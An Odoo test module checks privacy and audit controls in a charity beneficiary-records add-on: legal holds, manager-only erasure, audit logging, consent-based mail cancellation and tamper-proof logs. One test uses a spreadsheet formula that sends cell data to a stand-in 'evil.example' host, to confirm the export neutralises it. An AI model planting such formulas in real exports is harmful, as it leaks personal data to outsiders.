import base64
import io
import warnings

import openpyxl
import psycopg2

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.fields import Command
from odoo.tests import HttpCase, tagged
from odoo.tools import mute_logger

from .common import PDF_BYTES, AttaBeneficiaryCase
from .upload_corpus import plain_pdf


class AttaPrivacyCase(AttaBeneficiaryCase):
    """A registered file with a family, an income line, documents and a consent in force."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.officer.group_ids += cls.env.ref("base.group_allow_export")
        cls.consent_text = cls.env.ref("atta_beneficiary.consent_text_consent_v1")
        cls.beneficiary = cls._complete_file(cls._beneficiary(email="fatimah@example.com"))
        cls.beneficiary.action_register()
        cls.consent = cls.env["atta.beneficiary.consent"].create(
            {
                "beneficiary_id": cls.beneficiary.id,
                "text_id": cls.consent_text.id,
                "accepted_by_name": cls.beneficiary.name,
                "channel_id": cls.channel_interview.id,
            }
        )
        cls.env["atta.family.member"].create(
            {
                "beneficiary_id": cls.beneficiary.id,
                "name": "Omar Saleh Alqahtani",
                "relation": "son",
                "health_notes": "asthma",
            }
        )
        cls.env["atta.income.line"].create(
            {"beneficiary_id": cls.beneficiary.id, "income_type": "pension", "amount": 1800}
        )
        cls.other = cls._beneficiary("1000000016", name="Huda Nasser Alharbi", phone="0559876543")
        cls.Log = cls.env["atta.audit.log"]

    def _data_request(self, kind, beneficiary=None, user=None, **values):
        person = beneficiary or self.beneficiary
        return (
            self.env["atta.data.request"]
            .with_user(user or self.officer)
            .create(
                dict(
                    {
                        "kind": kind,
                        "identity_type": person.identity_type,
                        "identity_number": person.identity_number,
                        "requester_name": person.name,
                        "channel_id": self.channel_interview.id,
                    },
                    **values,
                )
            )
        )


@tagged("post_install", "-at_install")
class TestDestructionAsTheLawSays(AttaPrivacyCase):
    """Destruction only on a destruction request, only by a manager, never under a legal hold."""

    def test_an_officer_cannot_place_or_lift_a_legal_hold(self):
        as_manager = self.beneficiary.with_user(self.manager)
        as_manager.write({"legal_hold": True, "legal_hold_reason": "Court case 1447/33"})
        as_officer = self.beneficiary.with_user(self.officer)
        with self.assertRaisesText(AccessError, "Only a manager may place or lift a legal hold"):
            as_officer.write({"legal_hold": False})
        with self.assertRaisesText(AccessError, "legal hold"):
            as_officer.web_save({"legal_hold": False, "legal_hold_reason": False}, {"legal_hold": {}})
        with self.assertRaisesText(AccessError, "legal hold"):
            as_officer.write({"legal_hold_reason": "Nothing pending"})
        with self.assertRaisesText(UserError, "destruction request"):
            as_officer.write({"erased_on": "2026-01-01 00:00:00"})
        self.assertEqual(
            (self.beneficiary.legal_hold, self.beneficiary.legal_hold_reason),
            (True, "Court case 1447/33"),
            "the hold is as the manager left it",
        )
        self.assertFalse(self.beneficiary.erased_on)
        # Writing the values already there is no change: the form may send them.
        as_officer.write({"legal_hold": True, "city": "Riyadh"})
        self.assertEqual(self.beneficiary.city, "Riyadh")
        with self.assertRaisesText(AccessError, "legal hold"):
            self.env["atta.beneficiary"].with_user(self.officer).create(
                {"name": "Held At Birth", "identity_number": "1000000024", "legal_hold": True}
            )
        as_manager.write({"legal_hold": False, "legal_hold_reason": False})
        self.assertFalse(self.beneficiary.legal_hold)
        with self.assertRaisesText(UserError, "destruction request"):
            as_manager.write({"erased_on": "2026-01-01 00:00:00"})
        self.assertFalse(self.beneficiary.erased_on, "not even a manager marks a file erased without erasing it")

    def test_an_officer_cannot_destroy_through_any_request(self):
        access = self._data_request("access")
        with self.assertRaisesText(UserError, "cannot be answered this way"):
            access.action_destroy()
        destruction = self._data_request("destruction")
        with self.assertRaisesText(AccessError, "Only a manager may carry out the destruction"):
            destruction.action_destroy()
        with self.assertRaisesText(UserError, "cannot be answered this way"):
            destruction.action_export()
        with self.assertRaisesText(UserError, "cannot be answered this way"):
            access.action_apply_corrections()
        # Turning an access request into a destruction request once it is being answered is refused too.
        access.action_start()
        with self.assertRaisesText(UserError, "cannot change once the request is being answered"):
            access.write({"kind": "destruction"})
        self.assertEqual(access.kind, "access")
        self.assertEqual((access.state, destruction.state), ("in_progress", "received"))
        self.assertEqual(self.beneficiary.name, "Fatimah Ali Saleh Alqahtani")
        self.assertFalse(self.beneficiary.erased_on)
        self.assertTrue(self.beneficiary.document_ids)
        self.assertFalse(self.Log.search([("action", "=", "destruction")]))

    def test_a_manager_destroys_on_a_destruction_request_but_never_under_a_legal_hold(self):
        self.beneficiary.with_user(self.manager).write({"legal_hold": True, "legal_hold_reason": "Audit of 1447"})
        destruction = self._data_request("destruction")
        with self.assertRaisesText(UserError, "Audit of 1447"):
            destruction.with_user(self.manager).action_destroy()
        self.assertEqual(self.beneficiary.name, "Fatimah Ali Saleh Alqahtani")
        self.assertEqual(destruction.state, "received")
        self.beneficiary.with_user(self.manager).write({"legal_hold": False, "legal_hold_reason": False})
        destruction.with_user(self.manager).action_destroy()
        self.assertTrue(self.beneficiary.erased_on)
        self.assertNotIn("Fatimah", self.beneficiary.name)
        self.assertEqual(destruction.state, "done")
        self.assertEqual(self.other.name, "Huda Nasser Alharbi", "the other file is untouched")
        log = self.Log.search([("action", "=", "destruction")])
        self.assertEqual((log.user_id, log.res_id), (self.manager, self.beneficiary.id))

    def test_the_person_is_found_by_identity_type_and_number(self):
        # A passport may carry the same digits as someone's national ID: it is another person.
        passport = self._beneficiary("1000000008", name="Another Traveller", identity_type="passport")
        by_id = self._data_request("access")
        by_passport = self._data_request("access", beneficiary=passport)
        self.assertEqual(by_id.beneficiary_id, self.beneficiary)
        self.assertEqual(by_passport.beneficiary_id, passport)
        # The manager destroys the passport holder's data: the national-ID holder keeps everything.
        destruction = self._data_request("destruction", beneficiary=passport)
        self.assertEqual(destruction.beneficiary_id, passport)
        destruction.with_user(self.manager).action_destroy()
        self.assertTrue(passport.erased_on)
        self.assertFalse(self.beneficiary.erased_on)
        self.assertEqual(self.beneficiary.identity_number, "1000000008")

    def test_earlier_exports_of_the_person_do_not_survive_the_destruction(self):
        copy = self._data_request("copy")
        copy.action_export()
        exports = self.env["ir.attachment"].search([("res_model", "=", "atta.data.request"), ("res_id", "=", copy.id)])
        self.assertEqual(len(exports), 2, "a PDF and a spreadsheet were given to the person")
        # The officer saved a copy of the export on the person's letter register, under its own name.
        letter = self.env["atta.letter"].create({"subject": "Copy of data sent", "direction": "outgoing"})
        forwarded = self.env["ir.attachment"].create(
            {
                "name": f"Personal data {copy.name} (sent by post).pdf",
                "raw": PDF_BYTES,
                "res_model": "atta.letter",
                "res_id": letter.id,
            }
        )
        kept = self.env["ir.attachment"].create(
            {"name": "Minutes of the board.pdf", "raw": PDF_BYTES, "res_model": "atta.letter", "res_id": letter.id}
        )
        self._data_request("destruction").with_user(self.manager).action_destroy()
        self.assertFalse(exports.exists())
        self.assertFalse(forwarded.exists(), "a file named after the person's request goes wherever it hangs")
        self.assertTrue(kept.exists())
        self.assertFalse(self.env["ir.attachment"].search([("name", "ilike", copy.name)]))
        self.assertFalse(copy.description)
        self.assertNotIn("Fatimah", copy.requester_name)


@tagged("post_install", "-at_install")
class TestRegisteredFileStaysAsItIs(AttaPrivacyCase):
    """A registered file is not reset, deleted or re-stated by an officer."""

    def test_an_officer_cannot_reset_delete_or_restate_a_registered_file(self):
        as_officer = self.beneficiary.with_user(self.officer)
        with self.assertRaisesText(AccessError, "Only a manager may reopen"):
            as_officer.action_reset_to_draft()
        with self.assertRaisesText(AccessError, "only a manager may remove it"):
            as_officer.unlink()
        with self.assertRaisesText(UserError, "changes only through its buttons"):
            as_officer.write({"state": "draft"})
        with self.assertRaisesText(UserError, "changes only through its buttons"):
            as_officer.web_save({"state": "draft"}, {"state": {}})
        with self.assertRaisesText(AccessError, "Only a manager may archive"):
            as_officer._set_status("archived", "Moved away")
        with self.assertRaisesText(UserError, "starts as a draft"):
            self.env["atta.beneficiary"].with_user(self.officer).create(
                {"name": "Registered From Nowhere", "identity_number": "1000000024", "state": "registered"}
            )
        self.assertEqual(self.beneficiary.state, "registered")
        self.assertTrue(self.beneficiary.exists())
        self.assertTrue(self.beneficiary.consent_ids, "no consent went by cascade")
        self.assertFalse(
            self.Log.search([("action", "=", "delete"), ("res_id", "=", self.beneficiary.id)]),
            self.Log.search([("action", "=", "delete")]).mapped(
                lambda e: (e.res_model, e.res_id, e.reference, e.user_id.name)
            ),
        )
        # The steps themselves still work for the officer.
        as_officer._set_status("suspended", "Did not renew documents")
        self.assertEqual(self.beneficiary.state, "suspended")
        as_officer.action_register()
        self.assertEqual(self.beneficiary.state, "registered")

    def test_a_manager_reopens_but_never_deletes_a_file_with_consents(self):
        as_manager = self.beneficiary.with_user(self.manager)
        as_manager._set_status("archived", "Moved to another city")
        self.assertEqual((self.beneficiary.state, self.beneficiary.active), ("archived", False))
        as_manager.action_reset_to_draft()
        self.assertEqual((self.beneficiary.state, self.beneficiary.active), ("draft", True))
        with self.assertRaisesText(UserError, "Archive it instead"):
            as_manager.unlink()
        self.assertTrue(self.beneficiary.exists())
        self.assertEqual(len(self.beneficiary.consent_ids), 2)

    def test_a_draft_typed_by_mistake_is_deleted_with_a_trail(self):
        draft = (
            self.env["atta.beneficiary"]
            .with_user(self.officer)
            .create({"name": "Typo Typo", "identity_number": "2000000006", "identity_type": "iqama"})
        )
        reference = draft.reference
        draft.unlink()
        self.assertFalse(draft.exists())
        log = self.Log.search([("action", "=", "delete"), ("res_id", "=", draft.id)])
        self.assertEqual(
            (log.user_id, log.res_model, log.res_id, log.reference),
            (self.officer, "atta.beneficiary", draft.id, reference),
        )


@tagged("post_install", "-at_install")
class TestAuditSeesEveryPath(AttaPrivacyCase):
    """One entry per call, naming every record the call returned, whatever method the client uses."""

    def _calls(self, call):
        """The entries written by `call()` alone."""
        last = self.Log.search([], limit=1).id
        call()
        return self.Log.search([("id", ">", last)])

    def assertOneEntry(self, call, action, records, user=None):
        entries = self._calls(call)
        self.assertEqual(len(entries), 1, f"exactly one entry for {action}")
        self.assertEqual(
            (entries.action, entries.user_id, entries.res_model), (action, user or self.officer, records._name)
        )
        self.assertEqual(sorted(map(int, entries.res_ids.split(","))), sorted(records.ids))
        self.assertEqual(entries.res_count, len(records))
        self.assertEqual(entries.res_id, records.id if len(records) == 1 else 0)
        return entries

    def test_every_read_method_leaves_one_entry_with_the_records(self):
        files = self.beneficiary | self.other
        Beneficiary = self.env["atta.beneficiary"].with_user(self.officer)
        domain = [("id", "in", files.ids)]
        order = "id desc"  # the model's order: the ids come back in it
        self.assertOneEntry(lambda: files.with_user(self.officer).read(["name", "identity_number"]), "view", files)
        self.assertOneEntry(lambda: Beneficiary.search_read(domain, ["name"], order=order), "view", files)
        self.assertOneEntry(lambda: files.with_user(self.officer).web_read({"name": {}}), "view", files)
        entry = self.assertOneEntry(
            lambda: Beneficiary.web_search_read(domain, {"name": {}, "identity_number": {}}), "view", files
        )
        self.assertEqual(set(entry.reference.split(", ")), set(files.mapped("reference")))
        self.assertEqual(
            self.Log.search([("record_id", "=", self.other.id)]),
            entry | self.Log.search([("res_ids", "like", str(self.other.id))]),
            "found by the record whatever the list it was in",
        )
        self.assertOneEntry(
            lambda: Beneficiary.web_read_group(
                domain, ["state"], unfold_read_specification={"name": {}}, auto_unfold=True
            ),
            "view",
            files,
        )
        self.assertOneEntry(lambda: Beneficiary.name_search("Alqahtani"), "view", self.beneficiary)
        entry = self.assertOneEntry(
            lambda: files.with_user(self.officer).export_data(["name", "identity_number"]), "export", files
        )
        self.assertEqual(entry.detail, "2 fields exported")
        # A form with its family lines: one entry for the file, one for the lines it read, one insert.
        entries = self._calls(
            lambda: self.beneficiary.with_user(self.officer).web_read(
                {"name": {}, "family_member_ids": {"fields": {"name": {}, "health_notes": {}}}}
            )
        )
        self.assertEqual(
            [(e.res_model, e.res_ids) for e in entries.sorted("id")],
            [
                ("atta.beneficiary", str(self.beneficiary.id)),
                ("atta.family.member", ",".join(map(str, self.beneficiary.family_member_ids.ids))),
            ],
        )
        self.assertFalse(
            self._calls(lambda: self.beneficiary.with_user(self.officer).web_read({"name": {}})),
            "the same form opened again within ten minutes: no second entry",
        )

    def test_the_trail_names_the_record_type_in_the_reader_s_language(self):
        entry = self.assertOneEntry(
            lambda: self.beneficiary.with_user(self.officer).web_read({"name": {}}), "view", self.beneficiary
        )
        # As the web client asks, with the reader's language in the context.
        for lang, name in (("ar_001", "المستفيد"), ("en_US", "Beneficiary")):
            shown = (
                self.Log.with_user(self.manager)
                .with_context(lang=lang)
                .web_search_read([("id", "=", entry.id)], {"res_model_name": {}})["records"][0]
            )
            self.assertEqual(shown["res_model_name"], name, "the model's description, not its code")

    def test_family_income_and_expense_lines_are_audited(self):
        members = self.beneficiary.family_member_ids
        entry = self.assertOneEntry(
            lambda: (
                self.env["atta.family.member"]
                .with_user(self.officer)
                .search_read([("beneficiary_id", "=", self.beneficiary.id)], ["name", "health_notes"])
            ),
            "view",
            members,
        )
        self.assertEqual(entry.reference, self.beneficiary.reference, "the file number, never the member's name")
        lines = self.beneficiary.income_line_ids
        self.assertOneEntry(
            lambda: (
                self.env["atta.income.line"]
                .with_user(self.officer)
                .web_search_read([("beneficiary_id", "=", self.beneficiary.id)], {"amount": {}})
            ),
            "view",
            lines,
        )
        expense = self.env["atta.expense.line"].create(
            {"beneficiary_id": self.beneficiary.id, "expense_type": "rent", "amount": 900}
        )
        self.assertOneEntry(lambda: expense.with_user(self.officer).read(["amount"]), "view", expense)

    def test_reports_and_downloads_leave_one_entry(self):
        Report = self.env["ir.actions.report"].with_user(self.officer)
        report = "atta_beneficiary.action_report_beneficiary_file"
        files = self.beneficiary | self.other
        self.assertOneEntry(lambda: Report._render_qweb_html(report, files.ids), "print", files)
        self.assertOneEntry(lambda: Report._render_qweb_pdf(report, files.ids), "print", files)
        self.assertOneEntry(
            lambda: Report.with_context(lang="ar_001")._render_qweb_pdf(report, self.other.ids), "print", self.other
        )

    def test_the_code_own_reads_leave_no_entry(self):
        def internal_reads():
            self.beneficiary.read(["name"])  # superuser mode
            self.env["atta.beneficiary"].search_read([], ["name"])
            self.beneficiary.with_user(self.officer).name  # noqa: B018 - a field read by code, not by a client
            self.beneficiary.with_user(self.officer).family_member_ids.mapped("name")
            self.beneficiary.sudo()._atta_personal_data()

        self.assertFalse(self._calls(internal_reads))

    def test_the_trail_refuses_update_and_delete_in_the_database(self):
        entry = self.assertOneEntry(
            lambda: self.beneficiary.with_user(self.officer).read(["name"]), "view", self.beneficiary
        )
        for statement in (
            "UPDATE atta_audit_log SET detail = 'nothing happened' WHERE id = %s",
            "DELETE FROM atta_audit_log WHERE id = %s",
            "UPDATE atta_audit_log SET user_id = NULL WHERE id = -%s",
            "TRUNCATE atta_audit_log",
        ):
            with mute_logger("odoo.sql_db"), self.assertRaises(psycopg2.errors.InsufficientPrivilege):
                with self.env.cr.savepoint():
                    self.env.cr.execute(statement, [entry.id] if "%s" in statement else None)
        self.env.invalidate_all()
        self.assertEqual((entry.exists(), entry.detail, entry.user_id), (entry, "Read", self.officer))
        with self.assertRaises(UserError):
            entry.sudo().write({"detail": "nothing happened"})
        with self.assertRaises(UserError):
            entry.sudo().unlink()


@tagged("post_install", "-at_install")
class TestDownloadRoutesAreAudited(HttpCase, AttaPrivacyCase):
    """The routes the browser uses to fetch a scan: /web/content on the field and on the attachment."""

    def test_a_scan_downloaded_through_web_content_leaves_one_entry(self):
        scan = self.beneficiary.document_ids[:1]
        attached = self.env["ir.attachment"].create(
            {"name": "visit.pdf", "raw": PDF_BYTES, "res_model": "atta.beneficiary", "res_id": self.beneficiary.id}
        )
        self.authenticate("atta_officer", "atta_officer")
        last = self.Log.search([], limit=1).id
        response = self.url_open(f"/web/content/atta.beneficiary.document/{scan.id}/attachment?download=1")
        self.assertEqual(response.content, PDF_BYTES)
        response = self.url_open(f"/web/content/{attached.id}")
        self.assertEqual(response.content, PDF_BYTES)
        self.url_open(f"/web/image/atta.beneficiary/{self.beneficiary.id}/avatar_128")
        entries = self.Log.search([("id", ">", last)], order="id")
        self.assertEqual(
            [(e.action, e.res_model, e.res_id, e.user_id) for e in entries],
            [
                ("download", "atta.beneficiary.document", scan.id, self.officer),
                ("download", "atta.beneficiary", self.beneficiary.id, self.officer),
            ],
            "a thumbnail in a list is not a download",
        )


@tagged("post_install", "-at_install")
class TestSpreadsheetTextStaysText(AttaPrivacyCase):
    def test_a_name_beginning_with_equals_is_written_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
        self.beneficiary.write({"name": formula})
        copy = self._data_request("copy")
        copy.action_export()
        xlsx = self.env["ir.attachment"].search(
            [("res_model", "=", "atta.data.request"), ("res_id", "=", copy.id), ("name", "=like", "%.xlsx")]
        )
        workbook = openpyxl.load_workbook(io.BytesIO(base64.b64decode(xlsx.datas)))
        cells = [
            cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == formula
        ]
        self.assertTrue(cells, "the name is in the copy, exactly as typed")
        self.assertEqual({cell.data_type for cell in cells}, {"s"}, "a string cell, never a formula")
        amounts = [
            cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == 1800
        ]
        self.assertTrue(amounts)
        self.assertEqual({cell.data_type for cell in amounts}, {"n"}, "numbers stay numbers")


@tagged("post_install", "-at_install")
class TestConsentAtSendTime(AttaPrivacyCase):
    """A mail queued before the withdrawal is checked again when the queue runs, on every recipient field."""

    def _queued(self, **values):
        return self.env["mail.mail"].create(
            dict(
                {
                    "subject": "Your appointment",
                    "body_html": "<p>See you on Sunday</p>",
                    "email_from": "atta@example.com",
                },
                **values,
            )
        )

    def _run_queue(self, mails):
        self.env["mail.mail"].process_email_queue(email_ids=mails.ids)

    def test_a_mail_queued_before_the_withdrawal_is_not_sent(self):
        partner = self.beneficiary.partner_id
        to_partner = self._queued(recipient_ids=[Command.link(partner.id)])
        to_address = self._queued(email_to="Fatimah <fatimah@example.com>")
        to_cc = self._queued(email_cc="fatimah@example.com")
        shared = self._queued(
            email_to="fatimah@example.com, neighbour@example.com",
            recipient_ids=[Command.link(self.other.partner_id.id)],
        )
        # Someone else's contact card that carries the same address.
        twin = self.env["res.partner"].create({"name": "Old contact card", "email": "FATIMAH@example.com"})
        to_twin = self._queued(recipient_ids=[Command.link(twin.id)])
        queued = to_partner | to_address | to_cc | shared | to_twin
        self.assertEqual(set(queued.mapped("state")), {"outgoing"}, "consent in force: all queued")

        self.consent.with_user(self.officer).action_withdraw()
        self._run_queue(queued)
        for mail in to_partner | to_address | to_cc | to_twin:
            self.assertEqual((mail.state, mail.failure_type), ("cancel", "mail_optout"))
            self.assertIn("withdrew consent", mail.failure_reason)
            self.assertFalse(mail.recipient_ids)
        self.assertFalse(to_address.email_to)
        self.assertFalse(to_cc.email_cc)
        self.assertEqual(shared.state, "outgoing", "the other recipients still get theirs")
        self.assertEqual(shared.email_to, "neighbour@example.com")
        self.assertEqual(shared.recipient_ids, self.other.partner_id)

    def test_a_mail_written_after_the_withdrawal_is_kept_cancelled(self):
        self.consent.with_user(self.officer).action_withdraw()
        typed = self._queued(email_to="fatimah@example.com")
        self.assertEqual((typed.state, typed.failure_type), ("cancel", "mail_optout"))
        self.beneficiary.with_user(self.officer).message_post(
            body="Your file is complete",
            partner_ids=self.beneficiary.partner_id.ids,
            message_type="comment",
            subtype_xmlid="mail.mt_comment",
        )
        posted = self.env["mail.mail"].search([("body_html", "ilike", "Your file is complete")])
        self.assertEqual(posted.state, "cancel")
        self.assertFalse(posted.recipient_ids)


@tagged("post_install", "-at_install")
class TestRetentionRunsOnlyAsDecided(AttaPrivacyCase):
    """Anonymising by hand is a manager's decision; committing batch by batch is the retention cron's alone."""

    def setUp(self):
        super().setUp()
        self.rule = self.env.ref("atta_beneficiary.retention_inactive_beneficiary")
        # The other file was archived long ago: the rule is due on it.
        self.env.cr.execute(
            "UPDATE atta_beneficiary SET state = 'archived', active = FALSE, "
            "write_date = now() - interval '20 years' WHERE id = %s",
            [self.other.id],
        )
        self.env.invalidate_all()
        self.assertIn(self.other, self.rule._candidates())
        self.cron = self.env.ref("atta_beneficiary.ir_cron_retention")
        _cron, self.progress = self.cron._add_progress()
        self.spoofed = {"ir_cron_progress_id": self.progress.id, "cron_id": self.cron.id}

    def test_an_officer_cannot_run_the_erasure_even_with_a_cron_context(self):
        as_officer = self.rule.with_user(self.officer)
        with self.assertRaisesText(AccessError, "anonymise files by hand"):
            as_officer.action_run()
        with self.assertRaisesText(AccessError, "anonymise files by hand"):
            as_officer.with_context(**self.spoofed).action_run()
        self.env.invalidate_all()
        self.assertFalse(self.other.erased_on)
        self.assertEqual(self.other.name, "Huda Nasser Alharbi")
        self.assertFalse(self.rule.last_run)

    def test_a_cron_context_sent_by_a_client_never_commits(self):
        # A commit inside a test fails: the manager's run must stay one transaction whatever the context says.
        self.assertFalse(self.rule.with_user(self.manager).with_context(**self.spoofed)._running_as_retention_cron())
        self.rule.with_user(self.manager).with_context(**self.spoofed).action_run()
        self.assertTrue(self.other.erased_on)
        self.assertNotIn("Huda", self.other.name)
        self.assertEqual(self.rule.last_run_summary, "1 anonymised, 0 skipped")
        self.assertEqual(self.progress.done, 0, "no progress reported outside the cron")
        # The cron itself, in superuser mode with its own id, does report its progress.
        self.assertTrue(self.rule.with_context(**self.spoofed)._running_as_retention_cron())
        other_cron = self.env.ref("atta_beneficiary.ir_cron_data_request_deadline")
        self.assertFalse(
            self.rule.with_context(
                ir_cron_progress_id=self.progress.id, cron_id=other_cron.id
            )._running_as_retention_cron()
        )


@tagged("post_install", "-at_install")
class TestDataRequestStateOnlyThroughItsSteps(AttaPrivacyCase):
    """A data request is closed by answering it, never by writing its status."""

    def test_an_officer_cannot_close_a_destruction_request_by_writing_it(self):
        destruction = self._data_request("destruction")
        closing = {"state": "done", "answered_on": fields.Date.today(), "response": "Your data was destroyed."}
        with self.assertRaisesText(UserError, "through the steps of the process"):
            destruction.write(closing)
        with self.assertRaisesText(UserError, "through the steps of the process"):
            destruction.web_save(closing, {"state": {}})
        with self.assertRaisesText(UserError, "through the steps of the process"):
            destruction.write({"escalated": True})
        with self.assertRaisesText(UserError, "through the steps of the process"):
            self._data_request("destruction", state="done", answered_on=fields.Date.today())
        self.assertEqual((destruction.state, destruction.answered_on, destruction.response), ("received", False, False))
        self.assertFalse(self.beneficiary.erased_on)
        self.assertEqual(self.env["atta.data.request"].search_count([("state", "=", "done")]), 0)

    def test_the_buttons_still_answer_and_are_checked_on_the_server(self):
        access = self._data_request("access")
        access.action_start()
        self.assertEqual(access.state, "in_progress")
        with self.assertRaisesText(UserError, "already being answered"):
            access.action_start()
        access.action_export()
        self.assertEqual((access.state, access.answered_on), ("done", fields.Date.today()))
        refused = self._data_request("copy", refusal_reason="Identity not proven")
        refused.action_refuse()
        self.assertEqual(refused.state, "refused")
        with self.assertRaisesText(UserError, "already been answered"):
            refused.action_refuse()
        # An employee without the officer's role cannot take a step, whatever reaches the server.
        other = self._data_request("copy")
        with self.assertRaises(AccessError):
            other.with_user(self.employee).action_start()
        self.assertEqual(other.state, "received")


@tagged("post_install", "-at_install")
class TestDocumentVerificationOnlyByTheStep(AttaPrivacyCase):
    """A document is verified by the officer who checked it against the original, and a new scan is not."""

    def test_a_replaced_scan_is_never_verified_by_a_write(self):
        document = self.beneficiary.document_ids[:1].with_user(self.officer)
        verified_by = document.verified_by_id
        self.assertTrue(document.verified)
        forged = base64.b64encode(b"%PDF-1.4 forged")
        with self.assertRaisesText(UserError, "through the steps of the process"):
            document.write({"attachment": forged, "verified": True, "verified_by_id": self.manager.id})
        with self.assertRaisesText(UserError, "through the steps of the process"):
            document.web_save({"attachment": forged, "verified": True}, {"verified": {}})
        with self.assertRaisesText(UserError, "through the steps of the process"):
            document.write({"verified_on": fields.Datetime.now(), "expiry_notified": True})
        self.assertEqual((document.verified, document.verified_by_id), (True, verified_by))
        # A new scan alone (a well-formed one: staff uploads are inspected too): kept, and to be checked again.
        document.write({"attachment": base64.b64encode(plain_pdf())})
        self.assertEqual(
            (document.verified, document.verified_by_id, document.verified_on, document.status),
            (False, self.env["res.users"], False, "to_verify"),
        )
        with self.assertRaisesText(UserError, "through the steps of the process"):
            self.env["atta.beneficiary.document"].with_user(self.officer).create(
                {
                    "beneficiary_id": self.other.id,
                    "document_type_id": document.document_type_id.id,
                    "attachment": forged,
                    "verified": True,
                    "verified_by_id": self.manager.id,
                }
            )
        self.assertFalse(self.other.document_ids)

    def test_the_verify_and_reject_steps_still_work_for_the_officer(self):
        document = self.beneficiary.document_ids[:1].with_user(self.officer)
        document.action_reject()
        self.assertEqual((document.verified, document.status), (False, "rejected"))
        document.action_verify()
        self.assertEqual(
            (document.verified, document.verified_by_id, document.status), (True, self.officer, "verified")
        )
        with self.assertRaises(AccessError):
            document.with_user(self.employee).action_reject()
        self.assertTrue(document.verified)


@tagged("post_install", "-at_install")
class TestAuditSeesGroupedNestedAndAttachedReads(AttaPrivacyCase):
    """Totals by group, reads nested in a form and the scans read as attachments all leave their row."""

    def _calls(self, call):
        last = self.Log.search([], limit=1).id
        call()
        return self.Log.search([("id", ">", last)], order="id")

    def assertRow(self, entries, model, records, detail=None):
        self.assertEqual(len(entries), 1, f"exactly one entry for {model}")
        self.assertEqual((entries.action, entries.user_id, entries.res_model), ("view", self.officer, model))
        self.assertEqual(
            sorted(map(int, (entries.res_ids or "0").split(","))) if records else entries.res_ids,
            sorted(records.ids) if records else "",
        )
        self.assertEqual(entries.res_count, len(records))
        if detail:
            self.assertEqual(entries.detail, detail)

    def test_grouped_reads_leave_one_row_with_the_records_behind_personal_groups(self):
        files = self.beneficiary | self.other
        Beneficiary = self.env["atta.beneficiary"].with_user(self.officer)
        domain = [("id", "in", files.ids)]
        self.assertRow(
            self._calls(lambda: Beneficiary.formatted_read_group(domain, ["identity_number"], ["__count"])),
            "atta.beneficiary",
            files,
            "Listed by group: Identity Number",
        )
        self.assertRow(
            self._calls(lambda: Beneficiary.formatted_read_grouping_sets(domain, [["name"], ["state"]], ["__count"])),
            "atta.beneficiary",
            files,
        )
        self.assertRow(
            self._calls(lambda: Beneficiary.web_read_group(domain, ["identity_number"])), "atta.beneficiary", files
        )

        def legacy_read_group():
            with warnings.catch_warnings():
                warnings.simplefilter("ignore", DeprecationWarning)
                Beneficiary.read_group(domain, ["name"], ["name"])

        self.assertRow(self._calls(legacy_read_group), "atta.beneficiary", files)
        # By status alone: nothing about a person, still one row naming what was read.
        self.assertRow(
            self._calls(lambda: Beneficiary.formatted_read_group(domain, ["state"], ["__count"])),
            "atta.beneficiary",
            self.env["atta.beneficiary"],
            "Listed by group: File Status",
        )

    def test_a_nested_read_of_another_audited_model_leaves_its_own_row(self):
        document = self.beneficiary.document_ids[:1]
        members = self.beneficiary.family_member_ids
        entries = self._calls(
            lambda: document.with_user(self.officer).web_read(
                {
                    "name": {},
                    "beneficiary_id": {
                        "fields": {
                            "identity_number": {},
                            "family_member_ids": {"fields": {"name": {}, "health_notes": {}}},
                        }
                    },
                }
            )
        )
        self.assertEqual(
            [(e.res_model, e.res_ids, e.user_id) for e in entries],
            [
                ("atta.beneficiary.document", str(document.id), self.officer),
                ("atta.beneficiary", str(self.beneficiary.id), self.officer),
                ("atta.family.member", ",".join(map(str, members.ids)), self.officer),
            ],
        )
        self.assertEqual(entries[1].detail, "Read with Beneficiary Document")
        # A many2one shown by its name only reads no field of the other model: no second row.
        entries = self._calls(
            lambda: document.with_user(self.officer).web_search_read(
                [("id", "=", document.id)], {"beneficiary_id": {"fields": {"display_name": {}}}}
            )
        )
        self.assertEqual(entries.mapped("res_model"), ["atta.beneficiary.document"])

    def test_scans_read_as_attachments_leave_one_row(self):
        scans = self.env["ir.attachment"].search(
            [
                ("res_model", "=", "atta.beneficiary.document"),
                ("res_field", "=", "attachment"),
                ("res_id", "in", self.beneficiary.document_ids.ids),
            ]
        )
        self.assertTrue(scans)
        Attachment = self.env["ir.attachment"].with_user(self.officer)
        domain = [
            ("res_model", "=", "atta.beneficiary.document"),
            ("res_field", "=", "attachment"),
            ("res_id", "in", self.beneficiary.document_ids.ids),
        ]
        entries = self._calls(lambda: Attachment.search_read(domain, ["datas", "name"]))
        self.assertRow(entries, "ir.attachment", scans)
        self.assertEqual(entries.reference, self.beneficiary.reference, "the file number, never the file name")
        self.assertRow(
            self._calls(lambda: Attachment.web_search_read(domain, {"name": {}, "datas": {}})), "ir.attachment", scans
        )
        self.assertRow(self._calls(lambda: scans.with_user(self.officer).read(["datas"])), "ir.attachment", scans)
        # The attachments of records outside Atta are not personal files of the association: no row.
        other = self.env["ir.attachment"].create(
            {"name": "memo.txt", "raw": b"memo", "res_model": "res.partner", "res_id": self.officer.partner_id.id}
        )
        self.assertFalse(self._calls(lambda: other.with_user(self.officer).read(["name", "datas"])))
